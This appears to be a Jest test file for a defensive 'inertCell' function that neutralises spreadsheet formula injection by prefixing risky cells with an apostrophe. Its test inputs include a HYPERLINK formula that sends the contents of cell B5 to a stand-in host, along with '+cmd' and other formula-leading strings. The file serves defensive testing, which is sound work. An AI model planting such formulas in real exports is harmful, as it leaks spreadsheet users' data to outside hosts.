import { inertCell } from './spreadsheet';

describe('cells a spreadsheet would run', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&B5,"Xem")'],
    ['=1+1'],
    ['+cmd'],
    ['-2+3'],
    ['@SUM(1)'],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('%j gets a leading apostrophe', (text) => expect(inertCell(text)).toBe(`'${text}`));

  it('leaves numbers, booleans, empty and ordinary text alone', () => {
    expect(inertCell(-2)).toBe(-2);
    expect(inertCell(true)).toBe(true);
    expect(inertCell('')).toBe('');
    expect(inertCell('Công đoàn cơ sở = 12 đoàn viên')).toBe('Công đoàn cơ sở = 12 đoàn viên');
    expect(inertCell(null)).toBeNull();
  });
});
